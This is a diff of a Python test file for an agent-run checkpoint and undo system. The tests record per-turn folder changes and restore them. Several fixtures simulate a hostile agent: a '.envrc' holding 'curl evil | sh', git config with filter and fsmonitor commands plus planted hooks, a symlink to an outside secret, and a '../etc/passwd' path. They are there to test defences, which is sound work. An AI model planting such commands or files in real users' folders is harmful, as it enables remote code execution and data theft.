@@ -1,4 +1,11 @@
-"""Checkpoints against real git on temp folders: record, review, undo, hostile folders."""
+"""The folder's history (piwork.checkpoints over piwork.changes): record, review, undo.
+
+The agent writes its own copy of the folder (``run.view``, as its tools write
+/mnt/work over the overlay); the run's recorder (``piwork.run.records``) takes
+the change set before each model call and at the end, applies it (deletes
+allowed, as with ``--yes``) and records a checkpoint with the previous version
+of every path it touched. Everything but the VM is real.
+"""
 
 from __future__ import annotations
 
@@ -6,51 +13,78 @@ import asyncio
 import hashlib
 import json
 import os
-import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
-import orjson
 import pytest
 
+from piwork.changes.engine import Answer
 from piwork.checkpoints import (
     CHECKPOINTS_DIR,
     CheckpointError,
-    RunRecorder,
     TaskRunning,
     UndoConflict,
     list_checkpoints,
-    repo_for,
     task_changes,
     undo,
 )
 from piwork.cli.main import main
 from piwork.config import get_paths
+from piwork.run.records import FolderCheckpoints
 from piwork.tasks.store import Task, TaskStore
+
+from .changes_double import Judge, MirrorLayer
+
+
+class _Agent:
+    def __init__(self, layer: MirrorLayer) -> None:
+        self.layer = layer
+
+    def folder_source(self) -> MirrorLayer:
+        return self.layer
 
 
 class Run:
-    """A task with a working folder and a recorder, driven turn by turn like the runner."""
+    """A task with a working folder, the agent's copy of it, and the run's recorder."""
 
-    def __init__(self, task: Task, folder: Path) -> None:
+    def __init__(self, task: Task, folder: Path, view: Path) -> None:
         self.task = task
         self.folder = folder
+        self.view_dir = view
         self.events: list[dict[str, Any]] = []
-        self.rec = RunRecorder(repo_for(task), self.events.append, turn_start_wait=0.01)
+        self.notices: list[str] = []
+        self.judge = Judge(answer=Answer.ALLOW)
+        self.rec = FolderCheckpoints(self._emit, lambda k, d: None, lambda: self.judge,
+                                     turn_start_wait=0.01)  # fmt: skip
+        self.agent: _Agent | None = None
+
+    def _emit(self, kind: Any, **data: Any) -> None:
+        if kind.value == "changes":
+            self.events.append(data)
+        elif kind.value in ("notice", "error"):
+            self.notices.append(str(data.get("message")))
+
+    @property
+    def view(self) -> Path:
+        assert self.agent is not None, "start() first: the agent's copy is made then"
+        return self.agent.layer.view
 
     def start(self) -> None:
-        asyncio.run(self.rec.start())
+        self.agent = _Agent(MirrorLayer(self.view_dir, self.folder))
+        self.rec.begin(self.task)
 
     def turn(self) -> None:
         async def go() -> None:
             self.rec.turn_started()
-            await self.rec.before_model_call()
+            await self.rec.before_model_call(self.agent)  # type: ignore[arg-type]
 
         asyncio.run(go())
 
     def end(self) -> None:
-        asyncio.run(self.rec.end())
+        asyncio.run(self.rec.end(self.agent, {}))  # type: ignore[arg-type]
+        assert self.rec.engine is not None
+        self.rec.engine.close()
 
     @property
     def id(self) -> str:
@@ -65,11 +99,11 @@ def folder(tmp_path: Path) -> Path:
 
 
 @pytest.fixture
-def make_run(folder: Path) -> Iterator[Any]:
+def make_run(folder: Path, tmp_path: Path) -> Iterator[Any]:
     store = TaskStore(get_paths().tasks)
 
     def make() -> Run:
-        return Run(store.create("checkpoint test", folder), folder)
+        return Run(store.create("checkpoint test", folder), folder, tmp_path / "view")
 
     yield make
     store.close()
@@ -100,15 +134,16 @@ def three_turns(run: Run) -> None:
     (f / "b.txt").write_text("bravo\n")
     (f / "c.txt").write_text("charlie\n")
     run.start()
-    run.turn()  # turn 1: overwrite a, add d
-    (f / "a.txt").write_text("ALPHA overwritten\n")
-    (f / "d.txt").write_text("new file\n")
+    v = run.view
+    run.turn()  # the model call of turn 1
+    (v / "a.txt").write_text("ALPHA overwritten\n")
+    (v / "d.txt").write_text("new file\n")
     run.turn()  # turn 2: truncate b, delete c
-    (f / "b.txt").write_text("")
-    (f / "c.txt").unlink()
+    (v / "b.txt").write_text("")
+    (v / "c.txt").unlink()
     run.turn()  # turn 3: modify d, add e
-    (f / "d.txt").write_text("new file, edited\n")
-    (f / "e.bin").write_bytes(b"\x00\x01\x02binary")
+    (v / "d.txt").write_text("new file, edited\n")
+    (v / "e.bin").write_bytes(b"\x00\x01\x02binary")
     run.end()
 
 
@@ -137,11 +172,10 @@ def test_changes_per_turn_and_events(make_run: Any) -> None:
         "c.txt": "deleted",
     }
     labels = [c.label for c in list_checkpoints(run.id)]
-    assert labels == ["task start", "before turn 1", "before turn 2", "before turn 3", "task end"]
-    assert ev2["checkpoint"] == list_checkpoints(run.id)[2].id
-    # The shadow repository is in the task dir, not in the folder or a guest share.
-    assert (run.task.dir / CHECKPOINTS_DIR / "HEAD").is_file()
-    assert not (run.folder / ".git").exists()
+    assert labels == ["task start", "turn 1", "turn 2", "turn 3", "task end"]
+    # The history is in the task dir, never in the folder or a guest share.
+    assert (run.task.dir / CHECKPOINTS_DIR / "journal.sqlite").is_file()
+    assert sorted(os.listdir(run.folder)) == ["a.txt", "b.txt", "d.txt", "e.bin"]
 
 
 def test_undo_one_turn_only_and_undo_the_undo(make_run: Any) -> None:
@@ -153,10 +187,8 @@ def test_undo_one_turn_only_and_undo_the_undo(make_run: Any) -> None:
     assert result.restored == ["b.txt", "c.txt"] and result.removed == []
     assert (f / "b.txt").read_text() == "bravo\n"
     assert (f / "c.txt").read_text() == "charlie\n"
-    # Turns 1 and 3 are untouched.
     assert (f / "a.txt").read_text() == "ALPHA overwritten\n"
     assert (f / "d.txt").read_text() == "new file, edited\n"
-    assert (f / "e.bin").exists()
     undo(run.id, to=result.checkpoint_before)
     assert tree_digest(f) == after_task
 
@@ -175,24 +207,18 @@ def test_undo_whole_task(make_run: Any) -> None:
     f = run.folder
     (f / "a.txt").write_text("alpha\n")
     (f / "b.txt").write_text("bravo\n")
-    (f / "c.txt").write_text("charlie\n")
     before = tree_digest(f)
-    run.folder = f
-    three_turns_after_start(run)
-    undo(run.id)
-    assert tree_digest(f) == before
-
-
-def three_turns_after_start(run: Run) -> None:
-    f = run.folder
     run.start()
     run.turn()
-    (f / "a.txt").write_text("x")
-    (f / "sub").mkdir()
-    (f / "sub" / "new.txt").write_text("n")
+    (run.view / "a.txt").write_text("x")
+    (run.view / "sub").mkdir()
+    (run.view / "sub" / "new.txt").write_text("n")
     run.turn()
-    (f / "b.txt").unlink()
+    (run.view / "b.txt").unlink()
     run.end()
+    assert tree_digest(f) != before
+    undo(run.id)
+    assert tree_digest(f) == before
 
 
 def test_conflicts_need_force(make_run: Any) -> None:
@@ -205,11 +231,10 @@ def test_conflicts_need_force(make_run: Any) -> None:
     assert info.value.conflicts == ["b.txt"]
     assert "--force" in str(info.value)
     assert (f / "b.txt").read_text() == "the person edited this after the task\n"
-    assert (f / "c.txt").exists() is False  # nothing was done
+    assert not (f / "c.txt").exists()  # nothing was done
     result = undo(run.id, turn=2, force=True)
     assert (f / "b.txt").read_text() == "bravo\n"
-    # The person's edit is kept in the pre-undo checkpoint: undoing the undo brings it back.
-    undo(run.id, to=result.checkpoint_before)
+    undo(run.id, to=result.checkpoint_before)  # the person's edit comes back
     assert (f / "b.txt").read_text() == "the person edited this after the task\n"
 
 
@@ -234,228 +259,44 @@ def test_undo_refuses_while_task_is_owned(make_run: Any) -> None:
     assert (run.folder / "b.txt").read_text() == ""
 
 
-def test_symlink_outside_recorded_as_link_never_followed(make_run: Any, tmp_path: Path) -> None:
-    outside = tmp_path / "outside"
-    outside.mkdir()
-    secret = outside / "secret.txt"
-    secret.write_text("do not copy me\n")
-    run = make_run()
-    f = run.folder
-    (f / "keep.txt").write_text("k\n")
-    run.start()
-    run.turn()
-    os.symlink(secret, f / "link-to-file")
-    os.symlink(outside, f / "link-to-dir")
-    run.end()
-    assert changes(run.id, 1) == {"link-to-file": "added", "link-to-dir": "added"}
-    repo = repo_for(run.task)
-    listing = repo.run("ls-tree", "-r", "refs/heads/checkpoints").decode()
-    modes = {line.split("\t")[1]: line.split()[0] for line in listing.splitlines()}
-    assert modes["link-to-file"] == "120000" and modes["link-to-dir"] == "120000"
-    assert "link-to-dir/secret.txt" not in modes
-    blob = repo.run("cat-file", "-p", "refs/heads/checkpoints:link-to-file").decode()
-    assert blob == str(secret)
-    # No object in the shadow repository holds the secret's content.
-    objects = repo.run("cat-file", "--batch-all-objects", "--batch").decode("utf-8", "replace")
-    assert "do not copy me" not in objects
-    # Undo removes the links without touching their targets.
-    undo(run.id, turn=1)
-    assert not (f / "link-to-file").is_symlink() and not (f / "link-to-dir").is_symlink()
-    assert secret.read_text() == "do not copy me\n"
-
-
-def test_symlinked_dir_replacing_a_dir_is_not_written_through(
+def test_a_link_the_agent_makes_inside_is_a_link_one_pointing_out_waits(
     make_run: Any, tmp_path: Path
 ) -> None:
-    outside = tmp_path / "outside2"
+    outside = tmp_path / "outside"
     outside.mkdir()
+    (outside / "secret.txt").write_text("do not copy me\n")
     run = make_run()
-    f = run.folder
-    (f / "d").mkdir()
-    (f / "d" / "x.txt").write_text("inside\n")
+    (run.folder / "keep.txt").write_text("k\n")
     run.start()
     run.turn()
-    (f / "d" / "x.txt").unlink()
-    (f / "d").rmdir()
-    os.symlink(outside, f / "d")
+    os.symlink("keep.txt", run.view / "link-in")
+    os.symlink(outside / "secret.txt", run.view / "link-out")
     run.end()
-    undo(run.id, turn=1)
-    assert not (f / "d").is_symlink()
-    assert (f / "d" / "x.txt").read_text() == "inside\n"
-    assert list(outside.iterdir()) == []
-
-
-def test_folder_git_untouched(make_run: Any) -> None:
-    run = make_run()
-    f = run.folder
-    subprocess.run(["git", "init", "-q", str(f)], check=True)
-    (f / "tracked.txt").write_text("t\n")
-    subprocess.run(["git", "-C", str(f), "add", "tracked.txt"], check=True)
-    subprocess.run(
-        ["git", "-C", str(f), "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x"],
-        check=True,
+    assert changes(run.id, 1) == {"link-in": "added"}
+    assert os.readlink(run.folder / "link-in") == "keep.txt"
+    assert not os.path.lexists(run.folder / "link-out")
+    assert any("link-out" in n for n in run.notices)
+    stored = b"".join(
+        p.read_bytes() for p in (run.task.dir / CHECKPOINTS_DIR).rglob("*") if p.is_file()
     )
-    before = tree_digest(f / ".git")
-    three_turns_after_start_simple(run)
-    undo(run.id, turn=1)
-    assert tree_digest(f / ".git") == before
-    names = repo_for(run.task).run("ls-tree", "-r", "--name-only", "refs/heads/checkpoints")
-    assert not any(n.startswith(".git/") for n in names.decode().splitlines())
+    assert b"do not copy me" not in stored
 
 
-def three_turns_after_start_simple(run: Run) -> None:
-    run.start()
-    run.turn()
-    (run.folder / "tracked.txt").write_text("changed\n")
-    run.end()
-
-
-def test_ignored_files_are_recorded_and_a_planted_gitignore_hides_nothing(make_run: Any) -> None:
-    """Finding 6: the person's ignored .env/data/ and the guest's `*` .gitignore."""
+def test_the_persons_git_metadata_never_changes(make_run: Any) -> None:
     run = make_run()
     f = run.folder
-    (f / ".gitignore").write_text(".env\ndata/\n*.log\n")
-    (f / ".env").write_text("API_TOKEN=person-secret\n")
-    (f / "data").mkdir()
-    (f / "data" / "set.csv").write_text("a,b\n1,2\n")
-    (f / "a.txt").write_text("a\n")
-    run.start()
-    run.turn()
-    # The guest hides its own files behind a `*` .gitignore and deletes the ignored ones.
-    (f / ".gitignore").write_text("*\n")
-    (f / ".envrc").write_text("curl evil | sh\n")
-    (f / ".vscode").mkdir()
-    (f / ".vscode" / "tasks.json").write_text("{}\n")
-    (f / "a.txt").write_text("changed\n")
-    (f / ".env").unlink()
-    (f / "data" / "set.csv").unlink()
-    (f / "data").rmdir()
-    (f / "x.log").write_text("noise")
-    run.end()
-    assert changes(run.id, 1) == {
-        ".gitignore": "modified",
-        ".envrc": "added",
-        ".vscode/tasks.json": "added",
-        "a.txt": "modified",
-        ".env": "deleted",
-        "data/set.csv": "deleted",
-        "x.log": "added",
-    }
-    undo(run.id, turn=1)
-    assert (f / ".env").read_text() == "API_TOKEN=person-secret\n"
-    assert (f / "data" / "set.csv").read_text() == "a,b\n1,2\n"
-    assert (f / ".gitignore").read_text() == ".env\ndata/\n*.log\n"
-    assert not (f / ".envrc").exists() and not (f / ".vscode" / "tasks.json").exists()
-
-
-def test_size_cap_skips_with_note(make_run: Any) -> None:
-    settings = get_paths().settings_file
-    settings.parent.mkdir(parents=True, exist_ok=True)
-    settings.write_bytes(orjson.dumps({"tasks": {"checkpointMaxFileBytes": 1000}}))
-    try:
-        run = make_run()
-        f = run.folder
-        run.start()
-        run.turn()
-        (f / "big.bin").write_bytes(b"x" * 5000)
-        (f / "small.txt").write_text("s")
-        run.end()
-        assert changes(run.id, 1) == {"small.txt": "added"}
-        end = list_checkpoints(run.id)[-1]
-        assert any("big.bin" in n and "checkpointMaxFileBytes" in n for n in end.notes)
-        # Undo must not delete a file it never recorded.
-        undo(run.id, turn=1)
-        assert (f / "big.bin").exists() and not (f / "small.txt").exists()
-        # A recorded file that grows past the cap is not overwritten by an undo:
-        # its new content is in no checkpoint, so that could not be undone.
-        (f / "grows.txt").write_text("small\n")
-        run2 = Run(run.task, f)
-        run2.rec._base = run2.rec._last_turn = 5
-        asyncio.run(run2.rec.record("before turn 6", 6))
-        (f / "grows.txt").write_bytes(b"y" * 5000)
-        asyncio.run(run2.rec.record("task end"))
-        assert changes(run.id, 6) == {"grows.txt": "deleted"}
-        result = undo(run.id, turn=6)
-        assert result.skipped == ["grows.txt"] and result.restored == []
-        assert (f / "grows.txt").read_bytes() == b"y" * 5000
-    finally:
-        settings.unlink()
-
-
-def test_nested_git_repository_skipped_with_note(make_run: Any) -> None:
-    run = make_run()
-    f = run.folder
-    run.start()
-    run.turn()
-    nested = f / "vendor" / "lib"
-    nested.mkdir(parents=True)
-    subprocess.run(["git", "init", "-q", str(nested)], check=True)
-    (nested / "code.py").write_text("x = 1\n")
-    (f / "main.py").write_text("import lib\n")
-    run.end()
-    assert changes(run.id, 1) == {"main.py": "added"}
-    listing = repo_for(run.task).run("ls-files", "-s").decode()
-    assert "160000" not in listing
-    end = list_checkpoints(run.id)[-1]
-    assert any(n.startswith("vendor/lib") and "git repository" in n for n in end.notes)
-
-
-def test_hostile_gitattributes_filter_does_not_run(make_run: Any, tmp_path: Path) -> None:
-    marker = tmp_path / "filter-ran"
-    run = make_run()
-    f = run.folder
-    # The agent writes attributes naming a filter, and (uselessly) a config with its
-    # command: piwork's git must neither read that config nor rewrite bytes.
-    (f / ".gitattributes").write_text("* filter=evil text eol=crlf ident\n")
-    (f / ".gitconfig").write_text(f'[filter "evil"]\n\tclean = touch {marker}\n')
     (f / ".git").mkdir()
-    (f / ".git" / "config").write_text(
-        f'[filter "evil"]\n\tclean = touch {marker}\n\tsmudge = touch {marker}\n'
-        f"[core]\n\tfsmonitor = touch {marker}\n\thooksPath = /tmp\n"
-    )
-    (f / "doc.txt").write_text("line one\nline two $Id$\n")
+    (f / ".git" / "config").write_text("[core]\n")
+    before = tree_digest(f / ".git")
     run.start()
     run.turn()
-    (f / "doc.txt").write_text("line one\nline 2 $Id$\n")
+    (run.view / ".git" / "config").write_text('[core]\n\tfsmonitor = "touch /tmp/x"\n')
+    (run.view / ".git" / "hooks").mkdir()
+    (run.view / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
+    (run.view / "app.py").write_text("print(1)\n")
     run.end()
-    undo(run.id, turn=1)
-    assert (f / "doc.txt").read_bytes() == b"line one\nline two $Id$\n"
-    assert not marker.exists()
-
-
-def test_unknown_checkpoint_and_turn(make_run: Any) -> None:
-    run = make_run()
-    three_turns(run)
-    with pytest.raises(CheckpointError, match="not a checkpoint"):
-        undo(run.id, to="HEAD~1")
-    with pytest.raises(CheckpointError, match="no checkpoint"):
-        undo(run.id, to="deadbeef")
-    with pytest.raises(CheckpointError, match="turn 9"):
-        task_changes(run.id, turn=9)
-    with pytest.raises(CheckpointError, match="relative"):
-        undo(run.id, turn=2, files=["../etc/passwd"])
-
-
-def test_retry_of_a_model_call_keeps_the_turn(make_run: Any) -> None:
-    run = make_run()
-    f = run.folder
-    run.start()
-    run.turn()
-    (f / "x").write_text("1")
-
-    async def retry() -> None:  # a second model call without a new turn_start
-        await run.rec.before_model_call()
-
-    asyncio.run(retry())
-    run.turn()
-    run.end()
-    turns = [c.turn for c in list_checkpoints(run.id)]
-    assert turns == [None, 1, 1, 2, None]
-    assert changes(run.id, 1) == {"x": "added"}  # a turn starts at its first checkpoint
-    assert [e["turn"] for e in run.events] == [1, 2]
-
-
-# --------------------------------------------------------------------------- CLI
+    assert tree_digest(f / ".git") == before
+    assert changes(run.id, 1) == {"app.py": "added"}
 
 
 def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
@@ -481,8 +322,7 @@ def test_changes_json_per_turn(make_run: Any, capsys: pytest.CaptureFixture[str]
 
 
 def test_undo_conflict_force_and_undo_of_undo(
-    make_run: Any,
-    capsys: pytest.CaptureFixture[str],
+    make_run: Any, capsys: pytest.CaptureFixture[str]
 ) -> None:
     run: Run = make_run()
     three_turns(run)
@@ -514,31 +354,24 @@ def test_undo_refused_while_running(make_run: Any, capsys: pytest.CaptureFixture
     assert (run.folder / "d.txt").exists()
 
 
-# --------------------------------------------------------------------------- retention
-
-
-def test_gc_packs_and_bounds_space_and_show_prints_size(
+def test_show_prints_the_history_size_and_gc_keeps_what_is_named(
     make_run: Any, capsys: pytest.CaptureFixture[str]
 ) -> None:
     run: Run = make_run()
-    f = run.folder
     run.start()
-    for i in range(6):
+    for i in range(3):
         run.turn()
-        (f / f"blob{i}.bin").write_bytes(os.urandom(200_000))
+        (run.view / f"blob{i}.bin").write_bytes(os.urandom(200_000))
     run.end()
-    last_tree = repo_for(run.task).log()[-1].tree
-    n_before = len(list_checkpoints(run.id))
     code, out, _ = run_cli(capsys, "tasks", "show", run.id)
     assert code == 0 and "checkpoints" in out and "MiB" in out
-    code, out, _ = run_cli(capsys, "tasks", "gc", "--max-bytes", "700000")
-    assert code == 0 and run.id in out and "dropped" in out
-    repo = repo_for(run.task)
-    assert repo.size_bytes() <= 700_000 or len(repo.log()) == 2
-    assert len(list_checkpoints(run.id)) < n_before
-    assert repo.log()[-1].tree == last_tree  # the newest state is kept
-    code, out, _ = run_cli(capsys, "tasks", "show", run.id, "--json")
-    assert json.loads(out)["checkpointBytes"] == repo.size_bytes()
+    stray = run.task.dir / CHECKPOINTS_DIR / "objects" / "ab" / ("ab" + "0" * 62)
+    stray.parent.mkdir(parents=True, exist_ok=True)
+    stray.write_bytes(b"named by nothing")
+    code, out, _ = run_cli(capsys, "tasks", "gc")
+    assert code == 0 and not stray.exists()
+    undo(run.id)
+    assert not list(run.folder.iterdir())
 
 
 def test_file_becomes_folder_and_folder_becomes_file(make_run: Any) -> None:
@@ -550,17 +383,18 @@ def test_file_becomes_folder_and_folder_becomes_file(make_run: Any) -> None:
     before = tree_digest(f)
     run.start()
     run.turn()
-    (f / "x").unlink()
-    (f / "x").mkdir()
-    (f / "x" / "y.txt").write_text("now a folder\n")
-    (f / "d" / "inner.txt").unlink()
-    (f / "d").rmdir()
-    (f / "d").write_text("now a file\n")
+    v = run.view
+    (v / "x").unlink()
+    (v / "x").mkdir()
+    (v / "x" / "y.txt").write_text("now a folder\n")
+    (v / "d" / "inner.txt").unlink()
+    (v / "d").rmdir()
+    (v / "d").write_text("now a file\n")
     run.end()
     assert changes(run.id, 1) == {
-        "x": "deleted",
+        "x": "type_changed",
         "x/y.txt": "added",
-        "d": "added",
+        "d": "type_changed",
         "d/inner.txt": "deleted",
     }
     undo(run.id, turn=1)
@@ -576,90 +410,26 @@ def test_task_without_folder_has_no_checkpoints() -> None:
     assert list_checkpoints(task.id) == [] and task_changes(task.id) == []
 
 
-def test_start_checkpoint_in_background_precedes_the_first_turn(make_run: Any) -> None:
-    run: Run = make_run()
-    f = run.folder
-    (f / "a.txt").write_text("before\n")
-
-    async def go() -> None:
-        run.rec.begin()  # not awaited: the first model call waits for it
-        run.rec.turn_started()
-        await run.rec.before_model_call()
-        (f / "a.txt").write_text("after\n")
-        await run.rec.end()
-
-    asyncio.run(go())
-    assert [c.label for c in list_checkpoints(run.id)] == [
-        "task start",
-        "before turn 1",
-        "task end",
-    ]
-    assert changes(run.id, 1) == {"a.txt": "modified"}
-    assert [e["turn"] for e in run.events] == [1]
-
-
-def test_a_failed_start_is_reported_once_then_checkpoints_stay_off(make_run: Any) -> None:
-    run: Run = make_run()
-    run.folder.rename(run.folder.with_name("gone"))
-
-    async def go() -> None:
-        run.rec.begin()
-        with pytest.raises(CheckpointError, match="is gone"):
-            await run.rec.before_model_call()
-        await run.rec.before_model_call()  # off now: no second error
-        assert await run.rec.end() is None
-
-    asyncio.run(go())
+def test_unknown_checkpoint_and_turn(make_run: Any) -> None:
+    run = make_run()
+    three_turns(run)
+    with pytest.raises(CheckpointError, match="no checkpoint"):
+        undo(run.id, to="ffffffffffff")
+    with pytest.raises(CheckpointError, match="turn 9"):
+        task_changes(run.id, turn=9)
 
 
 def test_undo_restores_a_link_as_a_link(make_run: Any, tmp_path: Path) -> None:
     outside = tmp_path / "outside3.txt"
     outside.write_text("outside\n")
     run: Run = make_run()
-    f = run.folder
-    os.symlink(outside, f / "out-link")
+    os.symlink(outside, run.folder / "out-link")
     run.start()
     run.turn()
-    (f / "out-link").unlink()
+    (run.view / "out-link").unlink()
     run.end()
     assert changes(run.id, 1) == {"out-link": "deleted"}
     undo(run.id, turn=1)
-    assert (f / "out-link").is_symlink() and os.readlink(f / "out-link") == str(outside)
+    assert (run.folder / "out-link").is_symlink()
+    assert os.readlink(run.folder / "out-link") == str(outside)
     assert outside.read_text() == "outside\n"
-
-
-# --------------------------------------------------------------------------- gateway hook
-
-
-async def test_gateway_holds_each_model_call_until_the_checkpoint_is_taken() -> None:
-    """The reason checkpoints precede a turn's tools: the reply waits for them."""
-    import aiohttp
-
-    from piwork.models.scripted import ScriptedModelServer, Text
-    from piwork.proxy.gateway import ModelGateway
-
-    server = ScriptedModelServer([Text("one"), Text("two")], model_id="scripted")
-    seen_at_hook: list[int] = []
-    done = asyncio.Event()
-
-    async def checkpoint() -> None:
-        seen_at_hook.append(len(server.chat_requests))
-        await asyncio.sleep(0.3)
-        done.set()
-
-    async with server:
-        provider = server.as_provider(
-            name="s", contextWindow=1000, maxTokens=100, reasoning=False, input=("text",)
-        )
-        gateway = ModelGateway([provider], lambda name: None, before_forward=checkpoint)
-        async with gateway, aiohttp.ClientSession() as http:
-            body = {"model": "scripted", "messages": [{"role": "user", "content": "hi"}]}
-            async with http.post(
-                f"{gateway.url}/p/scripted/v1/chat/completions", json=body
-            ) as resp:
-                assert resp.status == 200
-                assert done.is_set()  # the reply came only after the checkpoint
-                await resp.read()
-            async with http.get(f"{gateway.url}/p/scripted/v1/models") as resp:
-                await resp.read()
-    assert seen_at_hook == [0]  # upstream not contacted before the hook; GETs do not wait
